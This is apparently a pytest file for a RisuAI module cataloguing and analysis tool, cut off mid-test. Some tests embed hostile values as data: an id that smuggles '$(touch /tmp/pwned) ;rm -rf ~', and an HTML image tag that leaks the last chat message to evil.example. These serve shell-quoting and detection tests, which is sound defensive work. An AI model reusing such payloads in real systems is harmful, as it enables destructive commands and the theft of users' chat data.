"""Findings of the seventh pass (stop 62), each a test that fails before its fix:

* an empty list a command grows (``[]``, ``[ ]``, ``[`` and ``]`` on their own lines) made
  the whole document be written again, in JSON (``patch_values``) and in YAML
  (``patch_yaml_values``): its layout, comments and spellings gone for one appended item.
  Now the items are written inside the brackets in the file's own layout;
* ``unpack`` of a card that has active content of its own (CBS, scripts) and a
  ``module.risum`` wrote the card's own component as ``module.json`` and dropped the
  embedded module and its assets (exit 0): ``pack`` of the folder was refused, the module
  lost.  ``module.json`` is the embedded module; the card stays ``card.json``.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from harness import SEED, run_cli

from risutools.formats.reader import read_path
from risutools.formats.risum import write_risum
from risutools.replay.component import _yaml_value
from risutools.yamlpatch import patch_yaml_values

# ---- an empty list grown where it stands -------------------------------------------------

YAML_EMPTY = """\
# 메모
a: 1   # 하나
refs: []   # 비어 있음
spaced: [ ]
b: 'two'
"""


@pytest.mark.parametrize("where, want", [
    ("refs", 'refs: [{"source_id": "replay:x", "n": [1]}]   # 비어 있음'),
    ("spaced", 'spaced: [{"source_id": "replay:x", "n": [1]} ]'),
])
def test_an_empty_yaml_list_grown_keeps_every_other_byte(where: str, want: str) -> None:
    old = _yaml_value(YAML_EMPTY)
    new = json.loads(json.dumps(old))
    new[where] = [{"source_id": "replay:x", "n": [1]}]
    got = patch_yaml_values(YAML_EMPTY, old, new, _yaml_value)
    assert got is not None
    assert _yaml_value(got) == new
    before, after = YAML_EMPTY.splitlines(), got.splitlines()
    assert [ln for ln in after if ln not in before] == [want]
    assert len(before) == len(after)


# ---- unpack of a card with a component of its own and a module ---------------------------

EMBEDDED = {"name": "Embedded", "id": "emb-1",
            "lorebook": [{"key": "k", "content": "lore", "mode": "normal", "insertorder": 100,
                          "alwaysActive": False, "comment": "c"}],
            "trigger": [{"comment": "t", "type": "output", "conditions": [],
                         "effect": [{"type": "triggerlua", "code": "setChatVar(id, 'hp', 1)"}]}],
            "assets": [["icon", "", "png"]]}
ICON = b"\x89PNG\r\n\x1a\n" + bytes(range(32))


def _card(tmp: Path, own: bool) -> Path:
    data: dict[str, object] = {"name": "Card", "first_mes": "hi"}
    if own:  # (CBS in its description and a regex script: a component of its own)
        data["description"] = "{{getvar::mood}}"
        data["extensions"] = {"risuai": {"customScripts": [
            {"comment": "r", "in": "a", "out": "b", "type": "editdisplay"}]}}
    path = tmp / ("own.charx" if own else "plain.charx")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("card.json", json.dumps({"spec": "chara_card_v3", "spec_version": "3.0",
                                            "data": data}))
        z.writestr("module.risum", write_risum(EMBEDDED, [ICON]))
    return path


@pytest.mark.parametrize("own", [True, False])
def test_unpack_of_a_card_gives_its_module_back_whole(tmp_path: Path, own: bool) -> None:
    card = _card(tmp_path, own)
    kinds = [m.component_type for m in read_path(str(card))]
    assert kinds == (["character", "module"] if own else ["module"])
    out = tmp_path / "out"
    done = run_cli("unpack", card, "-o", out)
    assert done.returncode == 0, done.stderr
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert manifest["component_type"] == "module"
    assert json.loads((out / "module.json").read_text("utf-8"))["name"] == "Embedded"
    assert (out / "card.json").is_file()
    assert [(out / e["file"]).read_bytes() for e in manifest["assets"]] == [ICON]
    packed = tmp_path / "re.risum"
    done = run_cli("pack", out, "-o", packed)
    assert done.returncode == 0, done.stderr
    (back,) = read_path(str(packed), with_assets=True)
    assert back.data["name"] == "Embedded" and back.data["lorebook"] == EMBEDDED["lorebook"]
    assert [a.data for a in back.assets] == [ICON]


# ---- hash: nothing on standard output for a file it could not hash -----------------------

def test_hash_prints_no_line_for_a_file_it_could_not_hash(tmp_path: Path) -> None:
    """As ``sha256sum``: a refused file is a line on standard error and nothing on standard
    output (it was an empty line there, one a file)."""
    good = tmp_path / "good.json"
    good.write_text(json.dumps({"component_id": "a", "x": [1, "가"]}), "utf-8")
    bad = tmp_path / "bad.json"
    bad.write_text("{", "utf-8")
    done = run_cli("hash", good, tmp_path / "missing.json", bad, good)
    assert done.returncode != 0
    lines = done.stdout.split("\n")
    assert len(lines) == 3 and lines[2] == "" and lines[0] == lines[1], done.stdout
    assert lines[0].startswith("sha256:") and lines[0].endswith(str(good))
    assert len(done.stderr.strip().splitlines()) == 2, done.stderr
    for args in (["hash"], ["hash", "-q"]):
        alone = run_cli(*args, tmp_path / "missing.json")
        assert alone.returncode != 0 and alone.stdout == "", (args, alone.stdout)


# ---- a replay fixture's duplicate message id has its own code ----------------------------

@pytest.mark.parametrize("name, body", [
    ("header.yaml", "fixture: conversation-v1\nname: d\nmessages: [{id: a, role: user, "
                    "content: x}, {id: a, role: user, content: y}]\nturns: [{}]\n"),
    # (m1 is the id made for the second message; an explicit m1 later collides)
    ("turn.yaml", "fixture: conversation-v1\nname: d\nmessages: [{id: s, role: system, "
                  "content: x}, {role: user, content: y}]\n"
                  "turns:\n  - append: [{id: m1, role: user, content: z}]\n"),
    ("turn.ndjson", '{"fixture": "conversation-v1", "name": "d"}\n'
                    '{"append": [{"id": "a", "role": "user", "content": "x"}]}\n'
                    '{"append": [{"id": "a", "role": "user", "content": "y"}]}\n'),
    ("many.ndjson", '{"fixture": "conversation-v1", "name": "d"}\n'
                    + "".join(f'{{"append": [{{"id": "a{i}", "role": "user", '
                              f'"content": "x"}}]}}\n' for i in range(300))
                    + '{"append": [{"id": "a7", "role": "user", "content": "y"}]}\n'),
])
def test_a_duplicate_message_id_is_duplicate_id(tmp_path: Path, name: str, body: str) -> None:
    """docs/errors.md gives two messages with one id in a replay their own code; a fixture
    said ``bad-fixture`` of it (the cutter's own check, which a fixture never reaches, said
    ``duplicate-id``)."""
    fx = tmp_path / name
    fx.write_text(body, "utf-8")
    done = run_cli("replay", "run", SEED, "-x", fx, "-o", tmp_path / "r.json")
    assert done.returncode == 2
    assert ": duplicate-id: duplicate message id '" in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


# ---- a catalog file holds no raw control, format or separator character -----------------

BIDI_MODULE = {"type": "risuModule", "name": "n\u2028x", "id": "i", "lorebook": [], "regex": [],
               "trigger": [], "customModuleToggle":
               "k1=Label\u202eevil\u2066x\u2069\u200b\ufeff\x85 ##[error]y\n"}


def test_documents_and_facts_are_written_as_project_prints_them(tmp_path: Path) -> None:
    """``project M`` printed a bidi override copied from a module as ``\\u202e``;
    ``project M -o F`` and ``ingest`` wrote it raw, in the documents and their facts: the
    file a pull request's diff shows a reviewer reordered its line.  Now every such file is
    the printed text (the same values: the digests do not change)."""
    src = tmp_path / "src"
    src.mkdir()
    (src / "m.json").write_text(json.dumps(BIDI_MODULE), "utf-8")
    printed = run_cli("project", src / "m.json")
    written = run_cli("project", src / "m.json", "-o", tmp_path / "doc.json")
    assert printed.returncode == written.returncode == 0, printed.stderr + written.stderr
    text = (tmp_path / "doc.json").read_text("utf-8")
    assert text == printed.stdout
    assert "\\u202e" in text and "##\\u005b" in text
    done = run_cli("ingest", src, "-o", tmp_path / "cat", "-q", "-j", "1")
    assert done.returncode == 0, done.stderr
    files = [p for p in (tmp_path / "cat").rglob("*.json") if ".risutools-cache" not in p.parts]
    assert len(files) >= 2  # the document and its facts
    for p in files:
        body = p.read_text("utf-8")
        assert {c for c in body if not c.isprintable()} <= {"\n"}, p
        assert "##[" not in body, p
    doc = json.loads(text)
    stored = [json.loads(p.read_text("utf-8")) for p in files]
    assert [d for d in stored if d.get("component_id") == doc["component_id"]], stored
    assert "Label\u202eevil" in json.dumps(doc, ensure_ascii=False)  # the value, as it was


# ---- an output never replaces what the command found to read for itself ----------------

ROOT = Path(__file__).resolve().parents[1]
MODULE = ROOT / "fixtures" / "sources" / "174678332_context-cutter.risum"


def _implicit_catalog(tmp: Path) -> Path:
    cat = tmp / "cat"
    (cat / "notes").mkdir(parents=True)
    (tmp / ".git").mkdir()  # (the catalog search stops at a repository's top)
    (tmp / "store").mkdir()
    (tmp / "store" / "m.risum").write_bytes(MODULE.read_bytes())
    (cat / "doc.json").write_bytes(SEED.read_bytes())
    (cat / ".risutools.yaml").write_text(
        "sources: ../store\ncatalog:\n  allowed_signers: keys/signers\n", "utf-8")
    (cat / "keys").mkdir()
    (cat / "keys" / "signers").write_text("kim ssh-ed25519 AAAA\n", "utf-8")
    (cat / "notes" / "x.yaml").write_text("component_id: x\n", "utf-8")
    (cat / "transitions.ndjson").write_text("", "utf-8")
    (cat / "old-report.json").write_text('{"review": "an earlier run"}\n', "utf-8")
    return cat


@pytest.mark.parametrize("command", ["review", "validate", "verify"])
@pytest.mark.parametrize("target", ["doc.json", ".risutools.yaml", "notes/x.yaml",
                                    "keys/signers", "transitions.ndjson", "../store/m.risum"])
def test_an_output_is_refused_over_what_the_command_reads_unnamed(
        tmp_path: Path, command: str, target: str) -> None:
    """``cd cat && review -o doc.json`` replaced a document (the catalog found from the
    current folder: no input named it); ``review cat -o cat/.risutools.yaml``, a notes file,
    the allowed_signers file or a module of the source store the configuration names were
    replaced likewise, by review, validate and verify."""
    cat = _implicit_catalog(tmp_path)
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    before = {p: p.read_bytes() for p in files}
    args = [command, "-f", "json", "-o", target] + ([] if command == "review" else ["."])
    done = run_cli(*args, cwd=cat)
    assert done.returncode == 2, done.stderr
    assert "is also read by the command" in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert {p: p.read_bytes() for p in files} == before


@pytest.mark.parametrize("command", ["review", "validate", "verify"])
def test_a_report_an_earlier_run_left_is_written_again(tmp_path: Path, command: str) -> None:
    cat = _implicit_catalog(tmp_path)
    args = [command, "-f", "json", "-o", "old-report.json"] + \
        ([] if command == "review" else ["doc.json"])
    done = run_cli(*args, cwd=cat)
    assert "is also read by the command" not in done.stderr, done.stderr
    assert done.returncode in (0, 1), done.stderr
    assert json.loads((cat / "old-report.json").read_text("utf-8")) != {"review": "an earlier run"}


# ---- a command printed for a person to copy is quoted as a shell reads it ---------------

HOSTILE_ID = "module.risu.1.x$(touch /tmp/pwned) ;rm -rf ~ 'q' \"d\" *"


def _commands(text: str) -> list[list[str]]:
    """Each ``risutools ...`` command in backticks of ``text``, as a shell splits it."""
    import re
    import shlex

    return [shlex.split(m) for m in re.findall(r"`(risutools [^`]*)`", text)]


def test_printed_commands_quote_the_values_they_name() -> None:
    """The board quoted an id (``shlex.quote``); a light packet's "open a full packet" line,
    MC305's advice and ``replay run``'s refusal pasted theirs raw: ``$(...)`` in an id ran
    when the line was copied into a shell."""
    from risutools.catalog.packet_markdown import _needs_full_context
    from risutools.contract.transitions import _changed_after

    packet = {"component": {"component_id": HOSTILE_ID}, "task": {"id": "task-1;ls"},
              "needs_full_context": [{"reason": "shared-source", "detail": "x"}]}
    line = next(ln for ln in _needs_full_context(packet) if "risutools packet" in ln)
    words = _commands(line)
    assert words and words[0][:3] == ["risutools", "packet", HOSTILE_ID], words
    assert words[0][-1] == "task-1;ls"
    advice = _changed_after(HOSTILE_ID, "pending_human_review", 1, {"after_sha256": "x"}, "y")
    cmds = _commands(advice)
    assert [c[:3] for c in cmds] == [["risutools", "approve", HOSTILE_ID],
                                     ["risutools", "promote", HOSTILE_ID]], cmds


# ---- a review that had nothing to check gives no verdict ---------------------------------

@pytest.mark.parametrize("how", ["empty", "exclude option", "exclude configured"])
def test_a_review_of_no_document_is_no_documents(tmp_path: Path, how: str) -> None:
    """``review`` of an empty catalog, or of one whose every document ``--exclude`` or its
    configuration leaves out, said "0 errors" and exited 0 (``validate`` of the same folder:
    ``no-documents``, exit 2)."""
    cat = tmp_path / "cat"
    (cat / "approvals").mkdir(parents=True)
    args = ["review", cat, "-q"]
    if how != "empty":
        (cat / "doc.json").write_bytes(SEED.read_bytes())
    if how == "exclude option":
        args += ["--exclude", "*"]
    elif how == "exclude configured":
        (cat / ".risutools.yaml").write_text('exclude: ["*.json"]\n', "utf-8")
    done = run_cli(*args)
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert ": no-documents: no matrix-component documents found" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and done.stdout == ""
    if how != "empty":  # (the document itself is reviewed)
        (cat / ".risutools.yaml").unlink(missing_ok=True)
        done = run_cli("review", cat, "-q")
        assert done.returncode in (0, 1) and "no-documents" not in done.stderr


# ---- a document linked inside the catalog is shown by its own name -----------------------

def test_a_linked_document_s_rows_name_the_link(tmp_path: Path) -> None:
    """``sub/a-copy.json -> ../a.json``: both files are read, MC104 names the link, but both
    interaction rows named ``a.json`` (the link's target): an annotation twice on one file
    and never on the file MC104 names."""
    import os

    cat = tmp_path / "cat"
    (cat / "sub").mkdir(parents=True)
    seed = json.loads(SEED.read_text("utf-8"))
    a, b = json.loads(json.dumps(seed)), json.loads(json.dumps(seed))
    a["component_id"], b["component_id"] = seed["component_id"] + "-a", seed["component_id"] + "-b"
    a["capabilities"]["conflicts"] = ["custom.thing"]
    b["capabilities"]["provides"] = ["custom.thing"]
    (cat / "a.json").write_text(json.dumps(a), "utf-8")
    (cat / "b.json").write_text(json.dumps(b), "utf-8")
    os.symlink("../a.json", cat / "sub" / "a-copy.json")
    done = run_cli("review", ".", "-q", "-f", "concise", cwd=cat)
    rows = [ln.split(":", 1)[0] for ln in done.stdout.splitlines()
            if " RV408 " in ln and "conflicts with" in ln]
    mc104 = [ln.split(":", 1)[0] for ln in done.stdout.splitlines() if " MC104 " in ln]
    # (since stop 65, a link to a document the walk reads is that document, read once:
    # one row, on the file itself, and no MC104 of a file against itself)
    assert sorted(rows) == ["a.json"], done.stdout
    assert mc104 == [], done.stdout


# ---- a full packet is bounded, and approve --packet reads what packet wrote --------------

def test_a_full_packet_lists_at_most_its_bound_and_approve_reads_it(tmp_path: Path) -> None:
    """60,000 runtime lines of one component made a 38.7 MB full packet (every line in
    ``transition_history``) that ``approve --packet`` then refused (past its 32 MiB bound).
    Each list of relations is capped (the history keeps its newest lines), what was left
    out is counted, and the packet is one approve reads."""
    from risutools.catalog.packet import MAX_RELATIONS_EACH

    cat = tmp_path / "cat"
    assert run_cli("ingest", ROOT / "fixtures" / "sources", "-o", cat, "-q").returncode == 0
    cid = "module.risu.186123400.mood-tracker"
    for args in (["approve", cid, "--action", "request_review", "--reviewer", "kim"],
                 ["promote", cid, "--to", "pending_human_review"]):
        done = run_cli(*args, "--catalog", cat)
        assert done.returncode == 0, done.stderr
    log = cat / "transitions.ndjson"
    last = json.loads(log.read_text("utf-8").splitlines()[-1])
    extra = MAX_RELATIONS_EACH + 57
    with log.open("a", encoding="utf-8") as f:
        for i in range(extra):
            fr, to = ("inactive", "active") if i % 2 == 0 else ("active", "inactive")
            f.write(json.dumps({"kind": "runtime", "component_id": cid, "from_runtime": fr,
                                "to_runtime": to, "before_sha256": last["after_sha256"],
                                "after_sha256": last["after_sha256"], "actor": f"a{i}",
                                "at": "2026-01-01T00:00:00+00:00", "tool_version": "0.1.0"},
                               sort_keys=True) + "\n")
    total = len(log.read_text("utf-8").splitlines())
    done = run_cli("packet", cid, "--catalog", cat, "--lane", "full", "-o", tmp_path / "p")
    assert done.returncode == 0, done.stderr
    (jfile,) = (tmp_path / "p").glob("*.json")
    rel = json.loads(jfile.read_text("utf-8"))["relations"]
    history = rel["transition_history"]
    assert len(history) == MAX_RELATIONS_EACH
    assert history[-1]["line"] == total and history[-1]["actor"] == f"a{extra - 1}"
    assert rel["omitted"] == {"transition_history": total - MAX_RELATIONS_EACH}  # (each line
    # of the log is this component's: its promotion, then the runtime lines)
    md = next((tmp_path / "p").glob("*.md")).read_text("utf-8")
    assert f"{total - MAX_RELATIONS_EACH:,} earlier lines not listed" in md
    done = run_cli("approve", cid, "--catalog", cat, "--action", "approve", "--reviewer", "kim",
                   "--packet", jfile)
    assert done.returncode == 0, done.stderr


def test_a_packet_past_the_bound_is_refused_not_written(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """What ``approve --packet`` would refuse to read is never written: one line, nothing
    on disk (the relations' caps keep real packets far below the bound)."""
    from risutools.catalog import packet as packet_mod
    from risutools.errors import RisuError

    doc = json.loads(SEED.read_text("utf-8"))
    packet = {"component": {"component_id": doc["component_id"]}, "lane": "light",
              "task": {"id": "task-1"}, "document": doc}
    monkeypatch.setattr(packet_mod, "render_packet_markdown", lambda p: "# packet\n")
    monkeypatch.setattr(packet_mod, "MAX_PACKET_BYTES", 1024)
    with pytest.raises(RisuError) as exc:
        packet_mod.write_packet(packet, tmp_path)
    assert exc.value.code == "too-large" and "nothing written" in str(exc.value)
    assert list(tmp_path.iterdir()) == []


# ---- a command-line value that is not UTF-8 is shown as a file name is -------------------

@pytest.mark.parametrize("args", [["rule", "G\udcff"], ["validate", str(SEED), "--select",
                                                       "MC\udcff"],
                                  ["promote", "x\udcff", "--to", "approved"]])
def test_a_value_that_is_not_utf8_is_shown_as_its_byte(tmp_path: Path, args: list[str]) -> None:
    """Python reads such an argument with surrogate escapes: ``repr`` showed ``\\udcff``
    where the file names of the same line show ``\\xff``."""
    (tmp_path / "approvals").mkdir()
    done = run_cli(*args, cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "\\xff" in done.stderr and "\\udcff" not in done.stderr, done.stderr


# ---- a reader between a writer's two steps reports the catalog, not the half-way state ---

_PAUSED_PROMOTE = """
import pathlib, sys, time
import risutools.catalog.promote as pm
mark, pause = sys.argv[1], float(sys.argv[2])
real = pm.append_log
def paused(*a, **k):  # (the line written, the document not yet: a writer half way)
    n = real(*a, **k)
    pathlib.Path(mark).write_text("line")
    time.sleep(pause)
    return n
pm.append_log = paused
from risutools.cli import main
sys.argv = ["risutools", *sys.argv[3:]]
main()
"""


@pytest.mark.parametrize("command", ["validate", "review"])
def test_a_reader_during_a_promotion_reports_no_false_mc305(tmp_path: Path,
                                                            command: str) -> None:
    """``promote`` appends its log line, then writes the document, under the writer lock;
    a reader between the two saw the line without the change: MC305, an error, of a
    catalog consistent before and after.  Now the reader that finds MC305 while a writer
    holds the lock reads again holding it shared, and reports the catalog as it is."""
    import os
    import subprocess
    import sys
    import time

    cat = tmp_path / "cat"
    assert run_cli("ingest", ROOT / "fixtures" / "sources", "-o", cat, "-q").returncode == 0
    cid = "module.risu.186123400.mood-tracker"
    assert run_cli("approve", cid, "--catalog", cat, "--action", "request_review",
                   "--reviewer", "kim").returncode == 0
    script, mark = tmp_path / "paused.py", tmp_path / "mark"
    script.write_text(_PAUSED_PROMOTE, "utf-8")
    writer = subprocess.Popen([sys.executable, str(script), str(mark), "1.5", "promote", cid,
                               "--catalog", str(cat), "--to", "pending_human_review"],
                              cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        deadline = time.monotonic() + 60
        while not mark.exists():
            assert writer.poll() is None and time.monotonic() < deadline, writer.stderr
            time.sleep(0.02)
        done = run_cli(command, cat, "-f", "concise", *(["-q"] if command == "review" else []))
    finally:
        _out, err = writer.communicate(timeout=60)
    assert writer.returncode == 0, err
    assert " MC305 " not in done.stdout, done.stdout
    assert done.returncode == 0, done.stdout + done.stderr
    assert json.loads((cat / f"{cid}.json").read_text("utf-8"))["provenance"][
        "review_status"] == "pending_human_review"


# ---- ingest --report never replaces what the run reads ----------------------------------

@pytest.mark.parametrize("target", ["cat/module.risu.186123400.mood-tracker.json",
                                    "src/186123400_mood-tracker.json",
                                    "cat/facts/module.risu.186123400.mood-tracker.json",
                                    "cat/.risutools-cache/ingest.msgpack",
                                    "cat/transitions.ndjson"])
def test_ingest_report_is_refused_over_what_the_run_reads(tmp_path: Path, target: str) -> None:
    """``ingest SRC -o CAT --report F`` wrote the run's report over a reviewed document, a
    source module, a facts file, the cache or the log (the catalog is an output, so it was
    never judged an input)."""
    import shutil

    shutil.copytree(ROOT / "fixtures" / "sources", tmp_path / "src")
    assert run_cli("ingest", "src", "-o", "cat", "-q", cwd=tmp_path).returncode == 0
    (tmp_path / "cat" / "transitions.ndjson").write_text("", "utf-8")
    path = tmp_path / target
    assert path.is_file(), target
    before = path.read_bytes()
    done = run_cli("ingest", "src", "-o", "cat", "-q", "--report", target, cwd=tmp_path)
    assert done.returncode == 2 and "is also read by the command" in done.stderr, done.stderr
    assert path.read_bytes() == before
    (tmp_path / "cat" / "old.json").write_text('{"report": "an earlier run"}\n', "utf-8")
    done = run_cli("ingest", "src", "-o", "cat", "-q", "--report", "cat/old.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr


def test_approve_packet_says_what_the_file_is_not(tmp_path: Path) -> None:
    """A missing packet, a folder or a device was ``bad-packet``; each is what every read
    says of it (``not-found``, ``not-a-file``); a file that is no packet stays bad-packet."""
    cat = tmp_path / "cat"
    assert run_cli("ingest", ROOT / "fixtures" / "sources", "-o", cat, "-q").returncode == 0
    cid = "module.risu.186123400.mood-tracker"
    (tmp_path / "folder").mkdir()
    (tmp_path / "junk.json").write_text("[]", "utf-8")
    for packet, code in ((tmp_path / "missing.json", "not-found"),
                         (tmp_path / "folder", "not-a-file"), ("/dev/null", "not-a-file"),
                         (tmp_path / "junk.json", "bad-packet")):
        done = run_cli("approve", cid, "--catalog", cat, "--action", "request_review",
                       "--reviewer", "kim", "--packet", packet)
        assert done.returncode == 2 and f": {code}: " in done.stderr, (packet, done.stderr)


# ---- a run of comment lines is read once, not again at each line -------------------------

def test_a_run_of_comment_lines_is_passed_over_once() -> None:
    """20,000 ``--`` lines before ``function`` took 8.5 s (10,000: 2.2 s): the skipper's
    run read the comments, stopped at ``function``, the lexer took one comment, and the run
    read the rest again.  Now blanks and line comments are passed over in one match before
    each run: the skipper is asked a few times, whatever the number of lines."""
    from risutools.analysis.lua import skip_pattern
    from risutools.analysis.lualex import Skipper, iter_tokens

    for n in (100, 5_000):
        code = "".join(f"-- line {i}\n" for i in range(n)) + \
            'function onStart(id) request(id, "https://h.example/") end'
        skipper = Skipper(skip_pattern(frozenset({"request"})))
        real, asked = skipper.match, [0]

        def counted(text: str, pos: int, real=real, asked=asked):  # type: ignore[no-untyped-def]
            asked[0] += 1
            return real(text, pos)

        skipper.match = counted  # type: ignore[method-assign]
        names = [t[3] for t in iter_tokens(code, [], skipper) if t[0] == 1 or t[3] == "request"]
        assert "request" in names and "function" in names
        assert asked[0] <= 20, (n, asked[0])


# ---- Lua's line breaks are "\n" and "\r" ------------------------------------------------

@pytest.mark.parametrize("code, name", [
    ('-- a note\rrequest(id, "https://h.example/a")', "request"),  # (a comment ends at \r)
    ('local s = "x\\\r\ny" LLM(id, {})', "LLM"),  # (an escaped \r\n is one line break)
    ('local s = "x\\\n\ry" LLM(id, {})', "LLM"),
    ('local s = "x\\\ry" LLM(id, {})', "LLM"),
])
def test_a_carriage_return_ends_a_lua_line(tmp_path: Path, code: str, name: str) -> None:
    """Lua's lexer (llex.c) ends a short comment at "\\n" or "\\r" and reads a backslash
    then "\\r\\n" (or "\\n\\r", "\\r") as one line break in a string; risutools read only
    "\\n": the call after a comment ended by "\\r" was inside the comment, and the string
    after an escaped "\\r\\n" ran to the line's end (its call lost, an RA601 said)."""
    from risutools.analysis.lualex import iter_tokens

    errors: list[tuple[int, str]] = []
    assert name in [t[3] for t in iter_tokens(code, errors)] and errors == []
    module = {"type": "risuModule", "name": "m", "id": "m", "lowLevelAccess": True,
              "trigger": [{"comment": "", "type": "start", "conditions": [],
                           "effect": [{"type": "triggerlua", "code": code}]}]}
    (tmp_path / "m.json").write_text(json.dumps(module), "utf-8")
    done = run_cli("analyze", tmp_path / "m.json", "-f", "json")
    assert done.returncode in (0, 1), done.stderr
    analysis = json.loads(done.stdout)["modules"][0]["analysis"]
    assert name in [a["name"] for a in analysis["privileged_apis"]], analysis
    assert "RA601" not in done.stdout


# ---- what RisuAI shows, and what it calls, read as it does --------------------------------

def _analysis(tmp_path: Path, module: dict[str, object]) -> dict[str, object]:
    (tmp_path / "m.json").write_text(json.dumps({"type": "risuModule", "name": "m", "id": "m",
                                                 **module}), "utf-8")
    done = run_cli("analyze", tmp_path / "m.json", "-f", "json")
    assert done.returncode in (0, 1), done.stderr
    out: dict[str, object] = json.loads(done.stdout)["modules"][0]["analysis"]
    return out


def _rules(analysis: dict[str, object]) -> set[str]:
    return {f["rule"] for f in analysis["findings"]}  # type: ignore[attr-defined]


LEAK = '<img src="https://evil.example/?q={{lastmessage}}"><script>alert(1)</script>'


def _trigger(effect: dict[str, object]) -> dict[str, object]:
    return {"trigger": [{"comment": "", "type": "display", "conditions": [],
                         "effect": [effect]}]}


@pytest.mark.parametrize("module", [
    # (v2SetDisplayState: its value is shown in the message's place, triggers.ts)
    _trigger({"type": "v2SetDisplayState", "value": LEAK, "valueType": "value",
              "indent": 0}),
    # (/send, /sendas and /comment put their text in the chat, command.ts)
    _trigger({"type": "command", "value": f"/sendas {LEAK}"}),
    _trigger({"type": "command", "value": f"/send {LEAK}|/comment x"}),
    _trigger({"type": "command", "value": f"/comment {LEAK}"}),
])
def test_html_every_display_path_shows_is_read(tmp_path: Path,
                                               module: dict[str, object]) -> None:
    assert {"RA301", "RA305"} <= _rules(_analysis(tmp_path, module))


def test_an_editprocess_output_is_no_html(tmp_path: Path) -> None:
    """An ``editprocess`` script rewrites the request sent to the model; no page shows its
    output: its <script> and remote image were RA301 and RA305 (its CBS still runs)."""
    a = _analysis(tmp_path, {"regex": [{"comment": "", "in": "x", "out": LEAK + "{{getvar::k}}",
                                        "type": "editprocess", "flag": "g"}]})
    assert not {"RA301", "RA302", "RA304", "RA305"} & _rules(a)
    assert "k" in json.dumps(a["state"])


def test_a_script_s_own_call_listen_main_hooks_every_edit(tmp_path: Path) -> None:
    """RisuAI's wrapper defines ``callListenMain`` before a script's code and calls it by name
    on every edit event: a script that defines it again is called there (it was
    ``unreached``, its calls dropped)."""
    code = "function callListenMain(mode, id, data) setChatVar(id, 'seen', data) end"
    a = _analysis(tmp_path, {"trigger": [{"comment": "", "type": "start", "conditions": [],
                                          "effect": [{"type": "triggerlua", "code": code}]}]})
    hooks = [h["name"] for h in a["hooks"]]  # type: ignore[attr-defined]
    assert {"hook.edit_request", "hook.edit_display", "hook.edit_input",
            "hook.edit_output"} <= set(hooks), hooks
    assert [e["name"] for e in a["entry_points"]] == ["callListenMain"]  # type: ignore[attr-defined]


# ---- an NDJSON catalog says a reviewed line's projection changed only when it did --------

def test_an_ndjson_reviewed_line_is_unchanged_when_only_its_steps_differ(
        tmp_path: Path) -> None:
    """Every ingest of an ``--ndjson`` catalog said of each promoted line "kept as reviewed:
    its projection changed", though nothing had: the line differs from the fresh projection
    only in the fields the promotion set.  A change of the module still says it."""
    import shutil

    shutil.copytree(ROOT / "fixtures" / "sources", tmp_path / "src")
    cat = tmp_path / "cat"
    cid = "module.risu.174678332.context-cutter"
    assert run_cli("ingest", "src", "-o", cat, "--ndjson", "-q", cwd=tmp_path).returncode == 0
    for args in (["approve", cid, "--action", "request_review", "--reviewer", "kim"],
                 ["promote", cid, "--to", "pending_human_review"]):
        assert run_cli(*args, "--catalog", cat).returncode == 0
    before = (cat / "components.ndjson").read_bytes()
    for _ in range(2):
        done = run_cli("ingest", "src", "-o", cat, "--ndjson", cwd=tmp_path)
        assert done.returncode == 0 and "projection changed" not in done.stdout + done.stderr
    assert (cat / "components.ndjson").read_bytes() == before
    (cat / "notes").mkdir(exist_ok=True)
    (cat / "notes" / f"{cid}.yaml").write_text(
        "notes: notes-v1\npayload:\n  invariants:\n  - 예산을 넘기지 않는다.\n", "utf-8")
    done = run_cli("ingest", "src", "-o", cat, "--ndjson", cwd=tmp_path)
    assert "projection changed" in done.stdout + done.stderr, done.stdout + done.stderr


# ---- a cached run says "another container" once, and only while it holds ----------------

def test_another_container_is_said_once_and_only_while_it_holds(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A cached run counted the same component in another container twice (the warning
    cached with the source, then made again), and kept saying it after the other file was
    gone."""
    import shutil

    from risutools.catalog import cache as cache_mod

    monkeypatch.setattr(cache_mod, "RACY_NS", 0)  # (just-copied sources are cached too)

    src = tmp_path / "src"
    src.mkdir()
    shutil.copy(ROOT / "fixtures" / "sources" / "186123400_mood-tracker.json", src)
    # (the same module in a .risum: another container)
    assert run_cli("pack", src / "186123400_mood-tracker.json", "-o",
                   src / "186123400_mood-tracker.risum").returncode == 0
    runs = []
    for _ in range(3):
        done = run_cli("ingest", src, "-o", tmp_path / "cat", "--json")
        assert done.returncode == 0, done.stderr
        runs.append(json.loads(done.stdout))
    warned = [[w for s in r["sources"] for w in s.get("warnings", [])
               if "another container" in w] for r in runs]
    assert [len(w) for w in warned] == [1, 1, 1], warned
    (src / "186123400_mood-tracker.json").unlink()
    done = run_cli("ingest", src, "-o", tmp_path / "cat", "--json")
    assert "another container); kept" not in done.stdout


# ---- no evidence is recorded on top of an unrecorded hand edit ---------------------------

@pytest.mark.parametrize("how", ["ingest", "replay"])
def test_no_evidence_over_an_unrecorded_change(tmp_path: Path, how: str) -> None:
    """A pending document edited by hand (MC305: it is not what its last line recorded): a
    re-ingest reverted the edit without a word and logged evidence whose before_sha256 no
    line had ended at, and ``replay run --update`` did the same: the append-only log then
    held a line no restore could make whole.  Now nothing is recorded, the edit is kept,
    ingest says why, and replay refuses (unrecorded-change)."""
    import shutil

    shutil.copytree(ROOT / "fixtures" / "sources", tmp_path / "src")
    cat = tmp_path / "cat"
    if how == "replay":
        shutil.copytree(ROOT / "fixtures" / "notes", cat / "notes")
    assert run_cli("ingest", "src", "-o", cat, "-q", cwd=tmp_path).returncode == 0
    cid = "module.risu.174678332.context-cutter"
    for args in (["approve", cid, "--action", "request_review", "--reviewer", "kim"],
                 ["promote", cid, "--to", "pending_human_review"]):
